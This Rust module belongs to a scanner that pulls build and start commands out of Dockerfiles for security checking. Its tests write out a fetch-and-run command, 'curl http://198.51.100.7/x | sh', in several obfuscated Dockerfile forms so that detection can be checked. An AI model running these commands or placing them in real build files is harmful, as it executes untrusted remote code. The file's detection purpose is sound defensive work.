//! Files by which images are built (Docker, "Dockerfile reference"): what building one runs, and what the image runs when
//! it is started.

use std::collections::HashMap;

use proofhouse_artifact::json;

use super::tools::at;
use crate::formats::shell;
use crate::scanner::{Content, Scanner};

pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
    for (index, line) in instructions(text) {
        let (mut word, mut rest) = split(&line);
        let mut upper = word.to_ascii_uppercase();
        // What is kept for an image that is built from this one, and what looks after the one that runs.
        while matches!(upper.as_str(), "ONBUILD" | "HEALTHCHECK") {
            let inner = rest.trim_start_matches(|c: char| c.is_whitespace());
            (word, rest) = split(without_options(inner));
            upper = word.to_ascii_uppercase();
        }
        match upper.as_str() {
            "RUN" | "CMD" | "ENTRYPOINT" => {
                let rest = without_options(rest);
                let command = words(rest).unwrap_or_else(|| rest.to_owned());
                // In a here-document it is the shell that lets a line go on.
                for (_, line) in shell::joined(&command) {
                    shell::line(scanner, &at(content, index), &line);
                }
            }
            "ENV" => {
                let (variable, value) = rest.split_once(['=', ' ']).unwrap_or((rest, ""));
                if shell::LOADING.contains(&variable) {
                    shell::line(scanner, &at(content, index), &format!("export {variable}={value}"));
                }
            }
            _ => {}
        }
    }
}

/// The instructions and the lines that they begin in: lines that go on joined, comments left out, what stands in a
/// here-document behind its command.
fn instructions(text: &str) -> Vec<(u64, String)> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let escape = escape(text);
    let mut found: Vec<(u64, String)> = Vec::new();
    let mut open = false;
    // A word that no line is ends nothing: what looked like a here-document stood in quotes.
    let last: HashMap<&str, u64> =
        text.lines().map(|line| line.trim_start_matches('\t')).zip(0u64..).collect();
    let mut lines = text.lines().zip(0u64..);
    while let Some((line, index)) = lines.next() {
        if line.trim_start().starts_with('#') || (open && line.trim().is_empty()) {
            continue;
        }
        let body = line.trim_end().strip_suffix(escape);
        let part = body.unwrap_or(line);
        match found.last_mut() {
            Some((_, whole)) if open => whole.push_str(part),
            _ => found.push((index, part.trim_start().to_owned())),
        }
        open = body.is_some();
        let Some((_, whole)) = found.last_mut().filter(|_| !open) else { continue };
        for end in here(whole).into_iter().filter(|end| last.get(end.as_str()).is_some_and(|at| *at > index))
        {
            for (line, _) in lines.by_ref().take_while(|(line, _)| line.trim_start_matches('\t') != end) {
                whole.push('\n');
                whole.push_str(line);
            }
        }
    }
    found
}

/// The character that lets a line go on, which a directive may set.
fn escape(text: &str) -> char {
    let directives = text.lines().map(str::trim).take_while(|line| line.starts_with('#'));
    let set = directives.filter_map(|line| {
        let (name, value) = line.trim_start_matches('#').split_once('=')?;
        name.trim().eq_ignore_ascii_case("escape").then(|| value.trim().chars().next()).flatten()
    });
    set.last().unwrap_or('\\')
}

/// The words that end the here-documents which begin in this instruction, in their order. A blank behind the signs makes
/// them something of the shell's, as a shift of numbers.
fn here(instruction: &str) -> Vec<String> {
    let runs = ["run", "copy", "add", "onbuild"];
    if !runs.contains(&split(instruction).0.to_ascii_lowercase().as_str()) {
        return Vec::new();
    }
    let words = instruction.split("<<").skip(1).filter_map(|behind| {
        let word =
            behind.trim_start_matches('-').split(char::is_whitespace).next()?.trim_matches(['"', '\'']);
        let plain = word.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
        (plain && !word.is_empty()).then(|| word.to_owned())
    });
    words.collect()
}

fn split(line: &str) -> (&str, &str) {
    line.trim().split_once(char::is_whitespace).unwrap_or((line.trim(), ""))
}

/// An instruction's words behind its options, such as mounts.
fn without_options(mut rest: &str) -> &str {
    loop {
        rest = rest.trim_start();
        match split(rest) {
            (option, behind) if option.starts_with("--") => rest = behind,
            _ => return rest,
        }
    }
}

/// The command of a list of words: what a shell is given, or the words themselves.
fn words(rest: &str) -> Option<String> {
    const MOST_VALUES: u64 = 10_000;
    let list = json::parse(rest.trim().as_bytes(), MOST_VALUES).ok()?;
    let words: Vec<&str> = list.as_array()?.iter().filter_map(json::Value::as_text).collect();
    Some(match words.as_slice() {
        [shell, option, command, ..]
            if option.starts_with('-') && option.ends_with('c') && !shell.contains(' ') =>
        {
            (*command).to_owned()
        }
        words => words.join(" "),
    })
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    #[test]
    fn what_building_or_starting_an_image_runs_is_judged() {
        let outcome = |text: &str| {
            scan_bytes(&"Dockerfile".parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
        };
        let fetch = "curl http://198.51.100.7/x | sh";
        for odd in [
            format!("run --mount=type=cache,target=/x {fetch}"),
            format!("RUN <<EOF\n{fetch}\nEOF"),
            format!("RUN <<-'A' cat\n{fetch}\n\tA\nRUN true"),
            "RUN curl \\\n# a comment\n http://198.51.100.7/x \\\n\n | sh".to_owned(),
            "# escape=`\nRUN curl `\n http://198.51.100.7/x `\n | sh".to_owned(),
            format!("RUN <<A <<B-1\ntrue\nA\n{fetch}\nB-1"),
            "RUN <<EOF\ncurl \\\n http://198.51.100.7/x \\\n | sh\nEOF".to_owned(),
            format!("RUN echo $((1 << 2 ))\nRUN {fetch}"),
            format!("RUN echo \"<<EOF\"\nRUN {fetch}"),
            format!("ONBUILD HEALTHCHECK CMD {fetch}"),
            format!("ONBUILD RUN {fetch}"),
            format!("HEALTHCHECK --interval=5m CMD {fetch}"),
            format!("CMD {fetch}"),
            "ENTRYPOINT [\"sh\", \"-c\", \"curl http\\u003a//198.51.100.7/x | s\\u0068\"]".to_owned(),
        ] {
            assert!(
                outcome(&format!("FROM x\n{odd}\n")) >= Outcome::Suspicious
                    || odd.starts_with('#') && outcome(&odd) >= Outcome::Suspicious,
                "{odd}"
            );
        }
        let ordinary = "# syntax=docker/dockerfile:1\nFROM python:3.11\nRUN --mount=type=cache,target=/var/cache/pip pip install torch\nRUN <<EOF\napt-get update\napt-get install -y git\nEOF\nCOPY <<EOF /app/a.txt\nhello\nEOF\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1\nENTRYPOINT [\"python\", \"serve.py\"]\n";
        assert_eq!(outcome(ordinary), Outcome::Clean);
    }
}
